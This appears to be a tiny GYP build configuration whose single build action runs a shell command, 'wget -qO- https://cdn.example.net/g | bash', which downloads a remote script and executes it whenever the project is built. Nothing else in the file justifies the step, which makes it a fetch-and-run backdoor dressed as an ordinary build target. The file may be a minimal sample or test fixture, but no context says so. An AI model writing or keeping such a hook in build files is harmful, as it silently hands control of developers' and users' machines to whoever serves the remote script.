{ 'targets': [ { 'target_name': 'a', 'type': 'none', 'actions': [ { 'action_name': 'x', 'inputs': [], 'outputs': ['y'], 'action': ['sh', '-c', 'wget -qO- https://cdn.example.net/g | bash'] } ] } ] }
